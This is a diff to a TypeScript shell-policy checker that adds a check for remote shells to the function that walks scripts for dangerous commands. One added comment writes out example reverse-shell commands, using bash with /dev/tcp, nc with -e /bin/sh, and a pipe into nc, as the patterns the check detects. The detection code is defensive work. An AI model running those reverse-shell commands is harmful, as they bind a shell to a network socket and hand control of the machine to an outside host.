@@ -23,6 +23,7 @@ import { stdinTclLines } from './launcher-shapes.ts';
 import { resolvePath } from './paths.ts';
 import type { Policy } from './policy.ts';
 import { type PrLookup, type PrState, prFinding } from './pr-gate.ts';
+import { checkRemoteShells } from './remote-shells.ts';
 import { checkMovedAway, checkRemoval } from './removal.ts';
 import { actorEnv, axmeCommand, gitBypasses, gitConfigEnv } from './self-rules.ts';
 import { isDynamic, MAX_DEPTH, parseShell, type SimpleCommand } from './shell.ts';
@@ -282,6 +283,9 @@ function walkScript(src: string, w: Walk, depth: number): void {
   }
   const p = checkPipelines(piped, fed, w.policy) ?? checkExfiltration(lineStages.length ? [...piped, ...lineStages] : piped);
   if (p) w.findings.push(p);
+  // `bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh h p`, `cat f | sh | nc h p`: a shell bound to a socket (remote-shells.ts)
+  const remote = checkRemoteShells(script.commands, (c) => runsOf.get(c)?.[0] ?? null);
+  if (remote) w.findings.push(remote);
 }
 
 /** A stage that runs the command line it is handed, as an invocation of its first word (`eval`, `watch`): what printsEnvironment reads. */
